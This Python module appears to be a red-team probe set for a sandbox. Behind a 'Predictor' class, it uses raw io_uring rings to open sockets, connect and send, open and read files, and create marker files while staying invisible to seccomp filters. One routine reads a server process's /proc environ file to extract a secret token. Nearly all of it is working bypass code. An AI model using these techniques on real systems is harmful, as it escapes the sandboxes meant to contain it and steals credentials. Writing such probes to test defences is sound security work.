"""Connect, open and read through a submission ring: the kernel acts for it outside every filter of system calls.

Against it: seccomp lets no ring come to be (I-14). What a ring does is seen by no seccomp filter, which is why large hosts switched
io_uring off after it had become the most used door of kernel exploits.
"""

import ctypes
import mmap
import os
import socket
import struct
import time

from toolbox import TARGETS, attempt, checked, libc, number, syscall

SETUP, ENTER, REGISTER = number(425, 425), number(426, 426), number(427, 427)
NOP, OP_OPENAT, OP_READ, OP_CONNECT, OP_SEND, OP_OPENAT2, OP_SOCKET = 0, 18, 22, 16, 26, 28, 45
ENTRIES = 8
SUBMISSIONS, COMPLETIONS, ROOM = 0, 0x800_0000, 0x1000_0000
SQPOLL, NO_MMAP, DEFER, SINGLE = 2, 1 << 14, 1 << 13, 1 << 12
GETEVENTS, WAKEUP = 1, 2
INET, STREAM, DATAGRAM, MPTCP = 2, 1, 2, 262
PARAMS = struct.Struct("<7I3I10I10I")
PAGE, ROOM_TO_READ = 4_096, 65_536

raw = ctypes.CDLL(None, use_errno=True)
raw.syscall.restype = ctypes.c_long
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)


def map_python(fd, size, offset):
    return mmap.mmap(fd, size, mmap.MAP_SHARED | mmap.MAP_POPULATE, mmap.PROT_READ | mmap.PROT_WRITE, offset=offset)


def map_libc(fd, size, offset):
    address = libc.mmap(None, size, 3, mmap.MAP_SHARED | mmap.MAP_POPULATE, fd, offset)
    return (ctypes.c_char * size).from_address(checked(address))


def map_number(fd, size, offset):
    long = ctypes.c_long
    address = raw.syscall(
        long(number(9, 222)), None, long(size), long(3), long(mmap.MAP_SHARED | mmap.MAP_POPULATE), long(fd), long(offset)
    )
    return (ctypes.c_char * size).from_address(checked(address))


MAPS = {"python": map_python, "libc": map_libc, "number": map_number}


class Ring:
    """Two mapped rings and the room for entries; one entry is in flight at a time."""

    def __init__(self, mapped=map_libc, flags=0):
        params = ctypes.create_string_buffer(PARAMS.pack(0, 0, flags, 0, 200, *[0] * 25), 120)
        self.flags = flags
        self.fd = syscall(SETUP, ENTRIES, params)
        try:
            told = struct.unpack("<30I", params.raw[:120])
            self.heads, self.tails = told[10:20], told[20:30]
            self.sq = mapped(self.fd, self.heads[6] + 4 * told[0], SUBMISSIONS)
            self.cq = mapped(self.fd, self.tails[5] + 16 * told[1], COMPLETIONS)
            self.entries = mapped(self.fd, 64 * told[0], ROOM)
        except BaseException:
            os.close(self.fd)
            raise

    def word(self, block, at):
        return struct.unpack_from("<I", block, at)[0]

    def asked(self, op, fd=-1, offset=0, address=0, size=0, flags=0):
        """Put one entry into the ring, have it done, and return its result."""
        tail, mask = self.word(self.sq, self.heads[1]), self.word(self.sq, self.heads[2])
        entry = struct.pack("<BBHiQQIIQ24x", op, 0, 0, fd, offset, address, size, flags, 7)
        self.entries[(tail & mask) * 64 : (tail & mask) * 64 + 64] = entry
        struct.pack_into("<I", self.sq, self.heads[6] + 4 * (tail & mask), tail & mask)
        struct.pack_into("<I", self.sq, self.heads[1], tail + 1)
        if self.flags & SQPOLL:
            syscall(ENTER, self.fd, 0, 0, WAKEUP, None, 0)
        else:
            syscall(ENTER, self.fd, 1, 1, GETEVENTS, None, 0)
        return self.answer()

    def answer(self):
        deadline = time.monotonic() + 0.5
        head = self.word(self.cq, self.tails[0])
        while head == self.word(self.cq, self.tails[1]):
            if time.monotonic() > deadline:
                raise TimeoutError("the ring gave no answer")
            time.sleep(0.000_5)
        at = self.tails[5] + 16 * (head & self.word(self.cq, self.tails[2]))
        result = struct.unpack_from("<i", self.cq, at + 8)[0]
        struct.pack_into("<I", self.cq, self.tails[0], head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result

    def close(self):
        os.close(self.fd)


def ringed(act, *args, mapped=map_libc, flags=0):
    ring = Ring(mapped, flags)
    try:
        return act(ring, *args)
    finally:
        ring.close()


def nothing(ring):
    """The ring alone."""
    return f"a ring, {ring.asked(NOP)}"


def address_of(port):
    return ctypes.create_string_buffer(struct.pack("=H", INET) + struct.pack("!H4s8x", port, socket.inet_aton("127.0.0.1")), 16)


def said(ring, fd, variant, port):
    name, text = address_of(port), ctypes.create_string_buffer(f"blindcast-attack-{variant}".encode())
    ring.asked(OP_CONNECT, fd, 16, ctypes.addressof(name))
    return f"{ring.asked(OP_SEND, fd, 0, ctypes.addressof(text), len(text) - 1)} bytes sent"


def connect(ring, variant):
    """The socket by a call, the rest by the ring."""
    fd = syscall(number(41, 198), INET, STREAM, 0)
    try:
        return said(ring, fd, variant, TARGETS["tcp_port"])
    finally:
        os.close(fd)


def whole(ring, variant, kind=STREAM, protocol=0):
    """The socket by the ring, too: no call but the ring's is made."""
    fd = ring.asked(OP_SOCKET, INET, kind, 0, protocol)
    try:
        return said(ring, fd, variant, TARGETS["udp_port" if kind == DATAGRAM else "tcp_port"])
    finally:
        os.close(fd)


def read(ring, fd, size=400):
    block = ctypes.create_string_buffer(size)
    try:
        got = ring.asked(OP_READ, fd, 0, ctypes.addressof(block), size)
        return block.raw[:got]
    finally:
        os.close(fd)


def openat(ring, path, size=400):
    name = ctypes.create_string_buffer(os.fsencode(path))
    return read(ring, ring.asked(OP_OPENAT, -100, 0, ctypes.addressof(name), 0, os.O_RDONLY), size)


def openat2(ring, path):
    name, how = ctypes.create_string_buffer(os.fsencode(path)), ctypes.create_string_buffer(24)
    return read(ring, ring.asked(OP_OPENAT2, -100, ctypes.addressof(how), ctypes.addressof(name), 24))


def marked(ring, variant):
    """A file made by the ring."""
    name = ctypes.create_string_buffer(os.fsencode(f"{TARGETS['marker']}/blindcast-attack-{variant}"))
    os.close(ring.asked(OP_OPENAT, -100, 0, ctypes.addressof(name), 0o600, os.O_CREAT | os.O_WRONLY))
    return "a file was made"


def by_library(variant):
    """The ring library's own calls, where it is installed."""
    library = ctypes.CDLL("liburing.so.2", use_errno=True)
    ring = ctypes.create_string_buffer(512)
    error = library.io_uring_queue_init(ENTRIES, ring, 0)
    if error < 0:
        raise OSError(-error, os.strerror(-error))
    library.io_uring_queue_exit(ring)
    return "a ring"


def own_memory():
    """Rings in memory of its own: nothing is mapped by the descriptor."""
    rings, room = mmap.mmap(-1, 2 * PAGE), mmap.mmap(-1, PAGE)
    at = [ctypes.addressof(ctypes.c_char.from_buffer(block)) for block in (rings, room)]
    params = ctypes.create_string_buffer(120)
    struct.pack_into("<I", params, 8, NO_MMAP)
    struct.pack_into("<Q", params, 72, at[1])  # sq_off.user_addr: the entries
    struct.pack_into("<Q", params, 112, at[0])  # cq_off.user_addr: the rings
    os.close(syscall(SETUP, ENTRIES, params))
    return "a ring"


def probe(ring):
    """Ask what rings could do here; nothing is registered."""
    block = ctypes.create_string_buffer(16 + 8 * 64)
    syscall(REGISTER, ring.fd, 8, block, 64)
    return f"operations up to {block.raw[0]}"


def environ(ring):
    """The secret in the environment of the server."""
    entries = openat(ring, f"/proc/{TARGETS['server_pid']}/environ", ROOM_TO_READ).split(b"\0")
    return b" ".join(entry for entry in entries if entry.startswith(TARGETS["token_name"].encode())) or None


class Predictor:
    def predict(self, view):
        if view.anchor == 0:
            for way, mapped in MAPS.items():
                attempt(f"nop_{way}", lambda m=mapped: ringed(nothing, mapped=m))
                attempt(f"connect_{way}", lambda w=way, m=mapped: ringed(connect, f"connect_{w}", mapped=m))
                attempt(f"socket_connect_{way}", lambda w=way, m=mapped: ringed(whole, f"socket_connect_{w}", mapped=m))
                attempt(f"openat_read_{way}", lambda m=mapped: ringed(openat, TARGETS["raw_file"], mapped=m))
            attempt("udp", lambda: ringed(whole, "udp", DATAGRAM))
            attempt("mptcp", lambda: ringed(whole, "mptcp", STREAM, MPTCP))
            attempt("openat2_read", lambda: ringed(openat2, TARGETS["raw_file"]))
            attempt("openat_link", lambda: ringed(openat, TARGETS["raw_link"]))
            attempt("openat_dotdot", lambda: ringed(openat, TARGETS["raw_dotdot"]))
            attempt("openat_environ", lambda: ringed(environ))
            attempt("openat_create", lambda: ringed(marked, "openat_create"))
            attempt("polled_connect", lambda: ringed(whole, "polled_connect", flags=SQPOLL))
            attempt("polled_read", lambda: ringed(openat, TARGETS["raw_file"], flags=SQPOLL))
            attempt("deferred_read", lambda: ringed(openat, TARGETS["raw_file"], flags=DEFER | SINGLE))
            attempt("library", by_library, "library")
            attempt("own_memory", own_memory)
            attempt("probe", lambda: ringed(probe))
        return 0.5
